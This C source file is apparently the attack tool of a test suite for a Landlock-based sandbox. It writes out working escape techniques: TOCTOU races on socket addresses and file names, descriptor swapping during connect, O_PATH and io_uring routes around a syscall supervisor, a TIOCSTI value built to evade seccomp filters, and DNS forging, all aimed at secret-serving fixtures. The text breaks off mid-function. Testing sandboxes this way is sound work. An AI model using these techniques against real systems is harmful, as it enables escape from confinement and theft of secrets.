// SPDX-License-Identifier: GPL-2.0
/*
 * al-attack: the syscall-level techniques of the adversary suite, and the
 * outside fixtures they aim at (a victim process, Unix listeners). Each
 * attack prints whatever it obtained; the runner judges leaks by outcome
 * (secrets in the output, changes outside), never by this exit code.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <grp.h>
#include <fcntl.h>
#include <arpa/inet.h>
#include <linux/bpf.h>
#include <linux/io_uring.h>
#include <linux/kcmp.h>
#include <linux/keyctl.h>
#include <linux/tiocl.h>
#include <netdb.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/msg.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <termios.h>
#include <sys/prctl.h>
#include <unistd.h>

static int say(const char *what, int rc)
{
	if (rc < 0)
		printf("%s: %s\n", what, strerror(errno));
	else
		printf("%s: ok\n", what);
	return rc < 0 ? 1 : 0;
}

static void cat_fd(int fd)
{
	char buf[4096];
	ssize_t n;

	while ((n = read(fd, buf, sizeof(buf))) > 0)
		fwrite(buf, 1, (size_t)n, stdout);
	fflush(stdout);
}

/* nnp-exec CMD [ARGS...]: CMD with no_new_privs set, as systemd's
 * NoNewPrivileges=yes or setpriv --no-new-privs start it. */
static int nnp_exec_cmd(char **argv)
{
	if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0)) {
		perror("nnp-exec: PR_SET_NO_NEW_PRIVS");
		return 1;
	}
	execvp(argv[0], argv);
	perror("nnp-exec");
	return 127;
}

/* exec-as UID GID CMD [ARGS...] (root): CMD as UID with GID alone and
 * no_new_privs, as a unit's User= and Group= would start it. */
static int exec_as_cmd(uid_t uid, gid_t gid, char **argv)
{
	if (setgroups(0, NULL) || setgid(gid) || setuid(uid) ||
	    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0)) {
		perror("exec-as");
		return 1;
	}
	execvp(argv[0], argv);
	perror("exec-as");
	return 127;
}

static int cat_path(const char *p)
{
	int fd = open(p, O_RDONLY);

	if (fd < 0)
		return say(p, -1);
	cat_fd(fd);
	close(fd);
	return 0;
}

/* "@name" is an abstract socket. */
static socklen_t un_addr(struct sockaddr_un *a, const char *p)
{
	memset(a, 0, sizeof(*a));
	a->sun_family = AF_UNIX;
	if (p[0] == '@') {
		strncpy(a->sun_path + 1, p + 1, sizeof(a->sun_path) - 2);
		return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(p + 1));
	}
	strncpy(a->sun_path, p, sizeof(a->sun_path) - 1);
	return sizeof(*a);
}

/* Outside fixture: hands the secret file's content to whoever connects. */
static int listen_cmd(const char *path, const char *secret_file, int type)
{
	struct sockaddr_un a;
	socklen_t len = un_addr(&a, path);
	int s = socket(AF_UNIX, type, 0);
	char buf[256];

	unlink(path);
	if (s < 0 || bind(s, (struct sockaddr *)&a, len))
		return say("bind", -1);
	chmod(path, 0777);
	if (type == SOCK_DGRAM) {
		for (;;) {
			ssize_t n = recv(s, buf, sizeof(buf) - 1, 0);

			if (n > 0)
				printf("DGRAM-RECEIVED %.*s\n", (int)n, buf), fflush(stdout);
		}
	}
	listen(s, 8);
	for (;;) {
		int c = accept(s, NULL, NULL), fd;

		if (c < 0)
			continue;
		printf("CONNECTED\n");
		fflush(stdout);
		fd = open(secret_file, O_RDONLY);
		if (fd >= 0) {
			ssize_t n = read(fd, buf, sizeof(buf));

			if (n > 0 && write(c, buf, (size_t)n) < 0)
				perror("write");
			close(fd);
		}
		close(c);
	}
}

static int connect_cmd(const char *path, int type)
{
	struct sockaddr_un a;
	socklen_t len = un_addr(&a, path);
	int s = socket(AF_UNIX, type, 0);

	if (type == SOCK_DGRAM)
		return say("sendto", (int)sendto(s, "hello", 5, 0, (struct sockaddr *)&a, len));
	if (say("connect", connect(s, (struct sockaddr *)&a, len)))
		return 1;
	cat_fd(s);
	return 0;
}

/* ---- races against a connect's judge (the Landlock backend's supervisor) ---- */

/* What the cell's own listener says, so a peer that says anything else is not it. */
#define AL_RACE_HELLO "CELL-LISTENER"

/* The cell's own stream listener on path: answers every connection with the hello. */
static void *race_listener(void *arg)
{
	int s = *(int *)arg;

	for (;;) {
		int c = accept(s, NULL, NULL);

		if (c < 0)
			continue;
		if (write(c, AL_RACE_HELLO "\n", sizeof(AL_RACE_HELLO)) < 0)
			perror("write");
		close(c);
	}
	return NULL;
}

static int race_listen(const char *path)
{
	static int s;
	struct sockaddr_un a;
	socklen_t len = un_addr(&a, path);
	pthread_t t;

	unlink(path);
	s = socket(AF_UNIX, SOCK_STREAM, 0);
	if (s < 0 || bind(s, (struct sockaddr *)&a, len) || listen(s, 64))
		return say("race: listen", -1);
	return pthread_create(&t, NULL, race_listener, &s) ? 1 : 0;
}

struct flipper {
	struct sockaddr_un *shared;
	struct sockaddr_un good, bad;
	volatile int stop;
};

/* Flips the shared address between the two names as fast as it can. */
static void *flip(void *arg)
{
	struct flipper *f = arg;
	volatile char *dst = (volatile char *)f->shared->sun_path;
	size_t i;

	while (!f->stop) {
		for (i = 0; i < sizeof(f->good.sun_path); i++)
			dst[i] = f->good.sun_path[i];
		for (i = 0; i < sizeof(f->bad.sun_path); i++)
			dst[i] = f->bad.sun_path[i];
	}
	return NULL;
}

/* Reads what the peer says first into buf (NUL-terminated). */
static void peer_line(int s, char *buf, size_t len)
{
	ssize_t n = read(s, buf, len - 1);

	buf[n > 0 ? n : 0] = '\0';
	buf[strcspn(buf, "\n")] = '\0';
}

/*
 * connect-race GOOD BAD N: listens on GOOD (the cell's own socket), then
 * connects N times with an address another thread keeps flipping between
 * GOOD and BAD. A judge that reads the address twice is beaten when a
 * connect reaches anything but the cell's listener: what it said is printed.
 */
static int connect_race_cmd(const char *good, const char *bad, int tries)
{
	static struct sockaddr_un shared;
	struct flipper f = { .shared = &shared };
	int i, reached = 0, refused = 0, outside = 0;
	pthread_t t;
	char buf[256];

	if (race_listen(good))
		return 1;
	un_addr(&f.good, good);
	un_addr(&f.bad, bad);
	shared = f.good;
	if (pthread_create(&t, NULL, flip, &f))
		return say("race: thread", -1);
	for (i = 0; i < tries; i++) {
		int s = socket(AF_UNIX, SOCK_STREAM, 0);

		if (s < 0)
			return say("race: socket", -1);
		if (connect(s, (struct sockaddr *)&shared, sizeof(shared))) {
			refused++;
			close(s);
			continue;
		}
		peer_line(s, buf, sizeof(buf));
		close(s);
		if (!strcmp(buf, AL_RACE_HELLO)) {
			reached++;
		} else {
			outside++;
			printf("race: reached another listener, which said: %s\n", buf);
		}
	}
	f.stop = 1;
	pthread_join(t, NULL);
	printf("race: %d tries, %d to the cell's listener, %d refused, %d elsewhere\n", tries,
	       reached, refused, outside);
	return outside ? 0 : 1;
}

#define AL_RACE_NAME_MAX 256
struct name_flipper {
	char *shared;
	char good[AL_RACE_NAME_MAX], bad[AL_RACE_NAME_MAX];
	volatile int stop;
};

/* Flips the shared file name between the two as fast as it can. */
static void *flip_name(void *arg)
{
	struct name_flipper *f = arg;
	volatile char *dst = f->shared;
	size_t i;

	while (!f->stop) {
		for (i = 0; i < AL_RACE_NAME_MAX; i++)
			dst[i] = f->good[i];
		for (i = 0; i < AL_RACE_NAME_MAX; i++)
			dst[i] = f->bad[i];
	}
	return NULL;
}

/*
 * open-race GOOD BAD N: N creating opens (then a write) of a name another
 * thread keeps flipping between GOOD (a name the cell may make) and BAD (one
 * it may not), removing GOOD after each. A supervisor that judges one copy
 * and acts on another re-read is beaten when BAD is written.
 */
static int open_race_cmd(const char *good, const char *bad, int tries)
{
	static char shared[AL_RACE_NAME_MAX];
	struct name_flipper f = { .shared = shared };
	int i, opened = 0, refused = 0;
	pthread_t t;

	snprintf(f.good, sizeof(f.good), "%s", good);
	snprintf(f.bad, sizeof(f.bad), "%s", bad);
	memcpy(shared, f.good, sizeof(shared));
	if (pthread_create(&t, NULL, flip_name, &f))
		return say("open-race: thread", -1);
	for (i = 0; i < tries; i++) {
		int fd = open(shared, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0600);

		if (fd < 0) {
			refused++;
			continue;
		}
		opened++;
		if (write(fd, "planted\n", 8) != 8)
			refused++;
		close(fd);
		unlink(good);
	}
	f.stop = 1;
	pthread_join(t, NULL);
	unlink(good);
	printf("open-race: %d tries, %d opened, %d refused\n", tries, opened, refused);
	return 0;
}

struct swapper {
	int target, inet, unix_sock;
	volatile int stop;
	volatile int swapping; /* set once the thread runs: connect races it only then */
};

/* Swaps what descriptor target is: a TCP socket, then a Unix one, and again. */
static void *swap(void *arg)
{
	struct swapper *w = arg;

	while (!w->stop) {
		dup2(w->inet, w->target);
		dup2(w->unix_sock, w->target);
		w->swapping = 1;
	}
	return NULL;
}

/*
 * connect-fdswap BAD N: connects descriptor T to the Unix socket BAD while
 * another thread keeps replacing T, a TCP socket one moment and a Unix one
 * the next: a judge that decides by what T was and lets the kernel look T
 * up again is beaten when the Unix socket ends up connected to BAD.
 */
static int connect_fdswap_cmd(const char *bad, int tries)
{
	struct swapper w;
	struct sockaddr_un a;
	socklen_t len = un_addr(&a, bad);
	int i, outside = 0;
	pthread_t t;
	char buf[256];

	for (i = 0; i < tries && !outside; i++) {
		w.inet = socket(AF_INET, SOCK_STREAM, 0);
		w.unix_sock = socket(AF_UNIX, SOCK_STREAM, 0);
		w.target = dup(w.inet);
		w.stop = 0;
		w.swapping = 0;
		if (w.inet < 0 || w.unix_sock < 0 || w.target < 0)
			return say("fdswap: socket", -1);
		if (pthread_create(&t, NULL, swap, &w))
			return say("fdswap: thread", -1);
		/* On a busy machine the thread may not run before connect does,
		 * and every try would meet the TCP socket alone: no race at all. */
		while (!w.swapping)
			sched_yield();
		connect(w.target, (struct sockaddr *)&a, len);
		w.stop = 1;
		pthread_join(t, NULL);
		/* The Unix socket of this round: connected to BAD? */
		if (getpeername(w.unix_sock, (struct sockaddr *)&a, &len) == 0) {
			outside++;
			peer_line(w.unix_sock, buf, sizeof(buf));
			printf("fdswap: the Unix socket got connected; its peer said: %s\n", buf);
		}
		len = un_addr(&a, bad);
		close(w.inet);
		close(w.unix_sock);
		close(w.target);
	}
	printf("fdswap: %d tries, %d reached outside\n", i, outside);
	return outside ? 0 : 1;
}

/* connect-opath PATH: an O_PATH descriptor of the socket, connected to as
 * /proc/self/fd/N (the name a judge reads is not the socket's). */
static int connect_opath_cmd(const char *path)
{
	char via[64];
	int fd = open(path, O_PATH);

	if (say("open O_PATH", fd))
		return 1;
	snprintf(via, sizeof(via), "/proc/self/fd/%d", fd);
	return connect_cmd(via, SOCK_STREAM);
}

/* TIOCSTI with bits above 32 set: ioctl(2) takes an unsigned int, so the
 * kernel drops them; a filter that compares all 64 bits would miss it. */
#define AL_TIOCSTI_HIGH 0x100000000UL

#ifndef MSG_FASTOPEN
#define MSG_FASTOPEN 0x20000000
#endif

/* "127.0.0.1", "::1", "::ffff:127.0.0.1" and a port, as a sockaddr. */
static socklen_t in_addr(struct sockaddr_storage *ss, const char *addr, const char *port)
{
	struct sockaddr_in *in = (struct sockaddr_in *)ss;
	struct sockaddr_in6 *in6 = (struct sockaddr_in6 *)ss;

	memset(ss, 0, sizeof(*ss));
	if (inet_pton(AF_INET6, addr, &in6->sin6_addr) == 1) {
		in6->sin6_family = AF_INET6;
		in6->sin6_port = htons((unsigned short)atoi(port));
		return sizeof(*in6);
	}
	in->sin_family = AF_INET;
	in->sin_port = htons((unsigned short)atoi(port));
	inet_pton(AF_INET, addr, &in->sin_addr);
	return sizeof(*in);
}

/* Outside fixture: a TCP service (IPv4 and IPv6) that hands out a secret. */
static int tcp_listen_cmd(const char *port, const char *secret_file)
{
	struct sockaddr_in6 a = { .sin6_family = AF_INET6, .sin6_addr = IN6ADDR_ANY_INIT };
	int s = socket(AF_INET6, SOCK_STREAM, 0), zero = 0, one = 1;
	char buf[256];

	a.sin6_port = htons((unsigned short)atoi(port));
	setsockopt(s, IPPROTO_IPV6, IPV6_V6ONLY, &zero, sizeof(zero));
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	setsockopt(s, IPPROTO_TCP, 23 /* TCP_FASTOPEN */, &one, sizeof(one));
	if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof(a)) || listen(s, 8))
		return say("bind", -1);
	for (;;) {
		int c = accept(s, NULL, NULL), fd;

		if (c < 0)
			continue;
		printf("CONNECTED\n");
		fd = open(secret_file, O_RDONLY);
		if (fd >= 0) {
			ssize_t n = read(fd, buf, sizeof(buf));

			if (n > 0 && write(c, buf, (size_t)n) < 0)
				perror("write");
			close(fd);
		}
		close(c);
	}
}

/* connect(), or TCP Fast Open (a sendto that connects), then read. */
static int tcp_connect_cmd(const char *addr, const char *port, bool fastopen)
{
	struct sockaddr_storage ss;
	socklen_t len = in_addr(&ss, addr, port);
	int s = socket(ss.ss_family, SOCK_STREAM, 0);

	if (fastopen) {
		if (say("sendto", (int)sendto(s, "hi", 2, MSG_FASTOPEN, (struct sockaddr *)&ss, len)))
			return 1;
	} else if (say("connect", connect(s, (struct sockaddr *)&ss, len))) {
		return 1;
	}
	cat_fd(s);
	return 0;
}

/* Outside fixture: a DNS server on ADDR:53 (UDP) that answers A queries for
 * the names given as NAME=IP (several IPs: NAME=IP,IP), NXDOMAIN for the
 * rest, and no records for other types. Enough for glibc, musl and busybox. */
#define DNS_HDR 12
#define DNS_TTL 60
static int dns_serve_cmd(const char *addr, int n, char **table)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(53) };
	unsigned char q[512], r[1024];
	int s = socket(AF_INET, SOCK_DGRAM, 0);

	inet_pton(AF_INET, addr, &a.sin_addr);
	if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof(a))) {
		printf("dns-serve: %s:53: %s\n", addr, strerror(errno));
		return 1;
	}
	printf("dns-serve: ready\n");
	for (;;) {
		struct sockaddr_storage from;
		socklen_t fl = sizeof(from);
		ssize_t len = recvfrom(s, q, sizeof(q), 0, (struct sockaddr *)&from, &fl);
		char name[256];
		size_t off = DNS_HDR, nl = 0, rl;
		unsigned qtype, answers = 0;
		int i, found = 0;

		if (len < DNS_HDR + 5)
			continue;
		while (off < (size_t)len && q[off] && q[off] < 64 && nl + q[off] + 1 < sizeof(name)) {
			if (nl)
				name[nl++] = '.';
			memcpy(name + nl, q + off + 1, q[off]);
			nl += q[off];
			off += q[off] + 1u;
		}
		name[nl] = '\0';
		if (off + 5 > (size_t)len || q[off])
			continue;
		off++;
		qtype = (q[off] << 8) | q[off + 1];
		off += 4;
		memcpy(r, q, off); /* the header and the question, answered */
		r[2] = 0x81;	   /* QR, RD */
		r[3] = 0x80;	   /* RA, NOERROR */
		rl = off;
		for (i = 0; i < n; i++) {
			const char *eq = strchr(table[i], '=');
			char ips[256], *ip, *save = NULL;

			if (!eq || (size_t)(eq - table[i]) != nl || strncasecmp(table[i], name, nl))
				continue;
			found = 1;
			if (qtype != 1)
				break;
			snprintf(ips, sizeof(ips), "%s", eq + 1);
			for (ip = strtok_r(ips, ",", &save); ip && rl + 16 <= sizeof(r);
			     ip = strtok_r(NULL, ",", &save)) {
				unsigned char rec[16] = { 0xc0, DNS_HDR, 0, 1, 0, 1, 0, 0, 0, DNS_TTL, 0, 4 };

				if (inet_pton(AF_INET, ip, rec + 12) != 1)
					continue;
				memcpy(r + rl, rec, sizeof(rec));
				rl += sizeof(rec);
				answers++;
			}
			break;
		}
		if (!found)
			r[3] = 0x83; /* NXDOMAIN */
		r[4] = 0, r[5] = 1;
		r[6] = (unsigned char)(answers >> 8), r[7] = (unsigned char)answers;
		r[8] = r[9] = r[10] = r[11] = 0;
		sendto(s, r, rl, 0, (struct sockaddr *)&from, fl);
	}
}

/* Writes NAME's question (type A, class IN) after the DNS header in m;
 * returns the offset past it. */
static size_t dns_question(unsigned char *m, size_t size, const char *name)
{
	size_t off = DNS_HDR;
	const char *p = name;

	while (*p && off + 70 < size) {
		const char *dot = strchr(p, '.');
		size_t l = dot ? (size_t)(dot - p) : strlen(p);

		m[off++] = (unsigned char)l;
		memcpy(m + off, p, l);
		off += l;
		p += l + (dot ? 1 : 0);
	}
	m[off++] = 0;
	m[off++] = 0, m[off++] = 1; /* A */
	m[off++] = 0, m[off++] = 1; /* IN */
	return off;
}

/* Asks SERVER:53 for NAME's A record itself (as `dig @SERVER` does), not
 * through resolv.conf; prints the first address answered. */
static int dns_ask_cmd(const char *server, const char *name)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(53) };
	unsigned char q[512] = { 0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0 }, r[1024];
	size_t off = dns_question(q, sizeof(q), name);
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	ssize_t n;

	inet_pton(AF_INET, server, &a.sin_addr);
	if (sendto(s, q, off, 0, (struct sockaddr *)&a, sizeof(a)) < 0 ||
	    (n = recv(s, r, sizeof(r), 0)) < (ssize_t)(off + 16)) {
		printf("dns-ask: no answer\n");
		return 1;
	}
	printf("answered %u.%u.%u.%u\n", r[off + 12], r[off + 13], r[off + 14], r[off + 15]);
	return 0;
}

/* Connects to NAME:PORT as most programs do: getaddrinfo, then the first
 * address; prints what it reached and what the server sent. */
static int connect_name_cmd(const char *name, const char *port)
{
	struct addrinfo hints = { .ai_socktype = SOCK_STREAM }, *ai = NULL;
	char addr[INET6_ADDRSTRLEN] = "?";
	int rc = getaddrinfo(name, port, &hints, &ai), s;

	if (rc) {
		printf("getaddrinfo %s: %s\n", name, gai_strerror(rc));
		return 1;
	}
	s = socket(ai->ai_family, SOCK_STREAM, 0);
	inet_ntop(ai->ai_family,
		  ai->ai_family == AF_INET6 ? (void *)&((struct sockaddr_in6 *)ai->ai_addr)->sin6_addr
					    : (void *)&((struct sockaddr_in *)ai->ai_addr)->sin_addr,
		  addr, sizeof(addr));
	printf("resolved %s: %s\n", name, addr);
	if (say("connect", connect(s, ai->ai_addr, ai->ai_addrlen)))
		return 1;
	cat_fd(s);
	return 0;
}

/* Outside fixture: a UDP service on ADDR:PORT that logs each datagram
 * ("RECEIVED" and its bytes, to stdout) and answers it with the secret. */
static int udp_serve_cmd(const char *addr, const char *port, const char *secret_file)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(port)) };
	char secret[256] = "", buf[512];
	int s = socket(AF_INET, SOCK_DGRAM, 0), f = open(secret_file, O_RDONLY);
	ssize_t n = f >= 0 ? read(f, secret, sizeof(secret) - 1) : -1;

	if (n > 0)
		secret[n] = '\0';
	inet_pton(AF_INET, addr, &a.sin_addr);
	if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof(a))) {
		printf("udp-serve: %s:%s: %s\n", addr, port, strerror(errno));
		return 1;
	}
	printf("udp-serve: ready\n");
	fflush(stdout);
	for (;;) {
		struct sockaddr_storage from;
		socklen_t fl = sizeof(from);

		n = recvfrom(s, buf, sizeof(buf) - 1, 0, (struct sockaddr *)&from, &fl);
		if (n < 0)
			continue;
		buf[n] = '\0';
		printf("RECEIVED %s\n", buf);
		fflush(stdout);
		sendto(s, secret, strlen(secret), 0, (struct sockaddr *)&from, fl);
	}
}

/* Outside fixture (root): a raw ICMP socket that prints RECEIVED for each
 * echo request carrying al-attack's datagram ("hello-udp"). */
static int icmp_listen_cmd(void)
{
	int s = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
	unsigned char buf[2048];

	if (s < 0) {
		printf("icmp-listen: %s\n", strerror(errno));
		return 1;
	}
	printf("icmp-listen: ready\n");
	fflush(stdout);
	for (;;) {
		ssize_t n = recv(s, buf, sizeof(buf) - 1, 0);
		size_t ihl;

		if (n < 28)
			continue;
		ihl = (size_t)(buf[0] & 0x0f) * 4;
		buf[n] = '\0';
		if (ihl + 8 < (size_t)n && buf[ihl] == 8 && memmem(buf + ihl + 8, (size_t)n - ihl - 8, "hello-udp", 9)) {
			printf("RECEIVED an ICMP echo request with the datagram\n");
			fflush(stdout);
		}
	}
}

/* Prints the answer a UDP socket gets within a second, if any. */
static void udp_answer(int s)
{
	struct timeval tv = { .tv_sec = 1 };
	char buf[512];
	ssize_t n;

	setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
	n = recv(s, buf, sizeof(buf) - 1, 0);
	if (n > 0) {
		buf[n] = '\0';
		printf("udp answer: %s\n", buf);
	}
}

/* Sends a datagram to ADDR:PORT the way HOW says, and prints the answer:
 * sendto; connect (then send); unspec (sendto an AF_UNSPEC name, which
 * udp_sendmsg reads as IPv4); v4mapped (an IPv6 socket, ::ffff:ADDR);
 * mmsg (sendmmsg); splice (connect, then splice from a pipe: no sendmsg
 * on 6.1); connect0 (connect to port 0, then sendto the port); icmp (an
 * ICMP echo request from a ping socket, PORT unused). */
static int udp_send_cmd(const char *addr, const char *port, const char *how)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(port)) };
	struct sockaddr_in6 a6 = { .sin6_family = AF_INET6, .sin6_port = a.sin_port };
	char msg[] = "hello-udp", label[64];
	int s, rc;

	inet_pton(AF_INET, addr, &a.sin_addr);
	snprintf(label, sizeof(label), "udp-%s", how);
	if (!strcmp(how, "icmp")) {
		/* An ICMP echo socket (ping): the kernel fills id and checksum. */
		unsigned char echo[8 + sizeof(msg)] = { 8, 0 };

		memcpy(echo + 8, msg, sizeof(msg));
		a.sin_port = 0;
		s = socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP);
		if (s < 0)
			return say(label, -1);
		rc = (int)sendto(s, echo, sizeof(echo), 0, (struct sockaddr *)&a, sizeof(a));
	} else if (!strcmp(how, "v4mapped")) {
		char m[64];

		snprintf(m, sizeof(m), "::ffff:%s", addr);
		inet_pton(AF_INET6, m, &a6.sin6_addr);
		s = socket(AF_INET6, SOCK_DGRAM, 0);
		rc = (int)sendto(s, msg, sizeof(msg), 0, (struct sockaddr *)&a6, sizeof(a6));
	} else {
		s = socket(AF_INET, SOCK_DGRAM, 0);
		if (!strcmp(how, "sendto")) {
			rc = (int)sendto(s, msg, sizeof(msg), 0, (struct sockaddr *)&a, sizeof(a));
		} else if (!strcmp(how, "unspec")) {
			struct sockaddr_in u = a;

			u.sin_family = AF_UNSPEC;
			rc = (int)sendto(s, msg, sizeof(msg), 0, (struct sockaddr *)&u, sizeof(u));
		} else if (!strcmp(how, "connect")) {
			rc = connect(s, (struct sockaddr *)&a, sizeof(a));
			if (!rc)
				rc = (int)send(s, msg, sizeof(msg), 0);
		} else if (!strcmp(how, "connect0")) {
			struct sockaddr_in z = a;

			z.sin_port = 0;
			rc = connect(s, (struct sockaddr *)&z, sizeof(z));
			if (!rc)
				rc = (int)sendto(s, msg, sizeof(msg), 0, (struct sockaddr *)&a, sizeof(a));
		} else if (!strcmp(how, "mmsg")) {
			struct iovec iov = { .iov_base = msg, .iov_len = sizeof(msg) };
			struct mmsghdr mm[2] = {
				{ .msg_hdr = { .msg_name = &a, .msg_namelen = sizeof(a), .msg_iov = &iov, .msg_iovlen = 1 } },
				{ .msg_hdr = { .msg_name = &a, .msg_namelen = sizeof(a), .msg_iov = &iov, .msg_iovlen = 1 } },
			};

			rc = sendmmsg(s, mm, 2, 0);
		} else if (!strcmp(how, "splice")) {
			int pfd[2];

			rc = connect(s, (struct sockaddr *)&a, sizeof(a));
			if (!rc && !pipe(pfd)) {
				if (write(pfd[1], msg, sizeof(msg)) < 0)
					rc = -1;
				else
					rc = (int)splice(pfd[0], NULL, s, NULL, sizeof(msg), 0);
			}
		} else {
			printf("udp-send: HOW is sendto, connect, connect0, unspec, v4mapped, mmsg, splice "
			       "or icmp\n");
			return 2;
		}
	}
	if (say(label, rc < 0 ? -1 : 0))
		return 1;
	udp_answer(s);
	return 0;
}

/* Sends this process a DNS answer forged to look like the resolver's
 * (from RESOLVER, port 53 if it may bind that, else any): NAME is IP. An
 * answer the kernel learned from would make IP NAME's for the host rules. */
static int dns_forge_cmd(const char *resolver, const char *name, const char *ip)
{
	struct sockaddr_in from = { .sin_family = AF_INET, .sin_port = htons(53) }, to = { .sin_family = AF_INET };
	unsigned char r[512] = { 0x12, 0x34, 0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0 };
	unsigned char rec[16] = { 0xc0, DNS_HDR, 0, 1, 0, 1, 0, 0, 0, DNS_TTL, 0, 4 };
	socklen_t tl = sizeof(to);
	size_t off = dns_question(r, sizeof(r), name);
	int s = socket(AF_INET, SOCK_DGRAM, 0), d = socket(AF_INET, SOCK_DGRAM, 0);

	inet_pton(AF_INET, resolver, &from.sin_addr);
	if (bind(s, (struct sockaddr *)&from, sizeof(from))) {
		printf("bind %s:53: %s; sending from another port\n", resolver, strerror(errno));
		from.sin_port = 0;
		if (bind(s, (struct sockaddr *)&from, sizeof(from)))
			printf("bind %s: %s\n", resolver, strerror(errno));
	}
	to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	bind(d, (struct sockaddr *)&to, sizeof(to));
	getsockname(d, (struct sockaddr *)&to, &tl);
	inet_pton(AF_INET, ip, rec + 12);
	memcpy(r + off, rec, sizeof(rec));
	off += sizeof(rec);
	return say("dns-forge", sendto(s, r, off, 0, (struct sockaddr *)&to, sizeof(to)) < 0 ? -1 : 0);
}

/* A bare io_uring (no liburing): one submission, waited for. */
struct uring {
	int fd;
	unsigned *sq_tail, *sq_mask, *sq_array, *cq_head, *cq_mask;
	struct io_uring_sqe *sqes;
	struct io_uring_cqe *cqes;
};

static int uring_init(struct uring *u)
{
	struct io_uring_params p;
	char *sq, *cq;

	memset(&p, 0, sizeof(p));
	u->fd = (int)syscall(__NR_io_uring_setup, 4, &p);
	if (u->fd < 0)
		return -1;
	sq = mmap(NULL, p.sq_off.array + p.sq_entries * sizeof(unsigned), PROT_READ | PROT_WRITE,
		  MAP_SHARED | MAP_POPULATE, u->fd, IORING_OFF_SQ_RING);
	cq = mmap(NULL, p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe),
		  PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, u->fd, IORING_OFF_CQ_RING);
	u->sqes = mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
		       MAP_SHARED | MAP_POPULATE, u->fd, IORING_OFF_SQES);
	if (sq == MAP_FAILED || cq == MAP_FAILED || u->sqes == MAP_FAILED)
		return -1;
	u->sq_tail = (unsigned *)(sq + p.sq_off.tail);
	u->sq_mask = (unsigned *)(sq + p.sq_off.ring_mask);
	u->sq_array = (unsigned *)(sq + p.sq_off.array);
	u->cq_head = (unsigned *)(cq + p.cq_off.head);
	u->cq_mask = (unsigned *)(cq + p.cq_off.ring_mask);
	u->cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
	return 0;
}

/* Submits sqe and returns its result (>= 0, or -errno). */
static int uring_run(struct uring *u, const struct io_uring_sqe *sqe)
{
	unsigned tail = *u->sq_tail, idx = tail & *u->sq_mask, head;
	int res;

	u->sqes[idx] = *sqe;
	u->sq_array[idx] = idx;
	__atomic_store_n(u->sq_tail, tail + 1, __ATOMIC_RELEASE);
	if (syscall(__NR_io_uring_enter, u->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
		return -errno;
	head = __atomic_load_n(u->cq_head, __ATOMIC_ACQUIRE);
	res = u->cqes[head & *u->cq_mask].res;
	__atomic_store_n(u->cq_head, head + 1, __ATOMIC_RELEASE);
	return res;
}

static int uring_say(const char *what, int res)
{
	errno = res < 0 ? -res : 0;
	return say(what, res < 0 ? -1 : res);
}

/* The open happens in io_uring (an io-wq worker when it would block). */
static int uring_read_cmd(const char *path)
{
	struct io_uring_sqe sqe;
	struct uring u;
	int fd;

	if (say("io_uring_setup", uring_init(&u)))
		return 1;
	memset(&sqe, 0, sizeof(sqe));
	sqe.opcode = IORING_OP_OPENAT;
	sqe.fd = AT_FDCWD;
	sqe.addr = (unsigned long)path;
	sqe.open_flags = O_RDONLY;
	fd = uring_run(&u, &sqe);
	if (uring_say("io_uring openat", fd))
		return 1;
	cat_fd(fd);
	return 0;
}

static int uring_connect_cmd(const char *addr, const char *port)
{
	struct sockaddr_storage ss;
	socklen_t len = in_addr(&ss, addr, port);
	int s = socket(ss.ss_family, SOCK_STREAM, 0);
	struct io_uring_sqe sqe;
	struct uring u;

	if (say("io_uring_setup", uring_init(&u)))
		return 1;
	memset(&sqe, 0, sizeof(sqe));
	sqe.opcode = IORING_OP_CONNECT;
	sqe.fd = s;
	sqe.addr = (unsigned long)&ss;
	sqe.off = len;
	if (uring_say("io_uring connect", uring_run(&u, &sqe)))
		return 1;
	cat_fd(s);
	return 0;
}

/* The victim's environment start, from /proc/<pid>/stat (field 48). */
static unsigned long env_start(pid_t pid)
{
	char p[64], buf[4096], *f;
	unsigned long v = 0;
	int fd, i;
	ssize_t n;

	snprintf(p, sizeof(p), "/proc/%d/stat", pid);
	fd = open(p, O_RDONLY);
	if (fd < 0)
		return 0;
	n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	if (n <= 0)
		return 0;
	buf[n] = 0;
	f = strrchr(buf, ')');
	for (i = 2; f && i < 48; i++)
		f = strchr(f + 1, ' ');
	if (f)
		v = strtoul(f + 1, NULL, 10);
	return v;
}

static int vmread_cmd(pid_t pid)
{
	char buf[4096];
